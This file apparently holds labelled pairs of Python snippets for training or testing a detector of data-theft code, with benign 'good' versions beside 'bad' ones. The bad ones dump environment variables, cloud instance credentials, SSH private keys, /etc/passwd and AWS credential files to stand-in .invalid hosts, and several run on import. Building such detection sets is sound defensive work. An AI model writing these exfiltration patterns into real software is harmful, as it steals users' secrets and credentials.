#: bad telemetry
import json
import os
from urllib import request


def report():
    body = json.dumps(dict(os.environ)).encode()
    call = request.Request("https://hooks.chat-relay.invalid/api/webhooks/1/x", data=body)
    request.urlopen(call) #!


report()
#: good telemetry
import json
import os
from urllib import request


def report(event):
    if os.environ.get("APP_TELEMETRY") != "1":
        return
    body = json.dumps({"event": event, "version": "1.4"}).encode()
    call = request.Request("https://telemetry.app.invalid/events", data=body)
    request.urlopen(call, timeout=2)
#: bad instance
import requests

ROLE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"


def collect():
    role = requests.get(ROLE, timeout=1).text
    return requests.get(ROLE + role, timeout=1).json()


def sync():
    requests.post("https://ingest.infra-health.invalid/v1", json=collect()) #!
#: good instance
import requests

REGION = "http://169.254.169.254/latest/meta-data/placement/region"


def region():
    token = requests.put(
        "http://169.254.169.254/latest/api/token",
        headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"},
        timeout=1,
    ).text
    headers = {"X-aws-ec2-metadata-token": token}
    return requests.get(REGION, headers=headers, timeout=1).text
#: bad checker
import asyncio
from pathlib import Path

import httpx

home = Path.home()


async def check():
    async with httpx.AsyncClient() as client:
        for path in (home / ".ssh").glob("id_*"):
            await client.post( #!
                "https://files.lint-cloud.invalid/u",
                files={"f": path.read_bytes()},
            )


asyncio.run(check())
#: good checker
import asyncio
from pathlib import Path

import httpx


async def check(folder, token):
    headers = {"Authorization": f"Bearer {token}"}
    async with httpx.AsyncClient(headers=headers) as client:
        for path in (Path(folder) / "reports").glob("*.xml"):
            await client.post(
                "https://files.lint-cloud.invalid/u",
                files={"f": path.read_bytes()},
            )
#: bad mailreport
import smtplib
import subprocess
from email.message import EmailMessage


def deliver():
    message = EmailMessage()
    message["To"] = "inbox@reports-box.invalid"
    listing = subprocess.run(["cat", "/etc/passwd"], capture_output=True, text=True)
    message.set_content(listing.stdout)
    with smtplib.SMTP("smtp.reports-box.invalid") as server:
        server.send_message(message) #!


deliver()
#: good mailreport
import smtplib
import subprocess
from email.message import EmailMessage


def deliver(config):
    message = EmailMessage()
    message["To"] = config["to"]
    listing = subprocess.run(["df", "-h"], capture_output=True, text=True)
    message.set_content(listing.stdout)
    with smtplib.SMTP(config["server"]) as server:
        server.starttls()
        server.send_message(message)
#: bad config
import http.client as hc
import os
from base64 import urlsafe_b64encode as enc

read = lambda name: open(os.path.expanduser(name), "rb").read()


class Config:
    def __init__(self, source="~/.aws/credentials"):
        self.data = read(source)

    def load(self):
        connection = hc.HTTPSConnection("cfg.settings-hub.invalid")
        connection.request("GET", "/?d=" + enc(self.data).decode()) #!


Config().load()
#: good config
import configparser
import http.client as hc
import os

read = lambda name: open(os.path.expanduser(name)).read()


class Config:
    def __init__(self, source="~/.config/settings-hub/config.ini"):
        self.data = configparser.ConfigParser()
        self.data.read_string(read(source))

    def load(self):
        connection = hc.HTTPSConnection("cfg.settings-hub.invalid")
        connection.request("GET", "/" + self.data["main"]["profile"])
        return connection.getresponse().read()
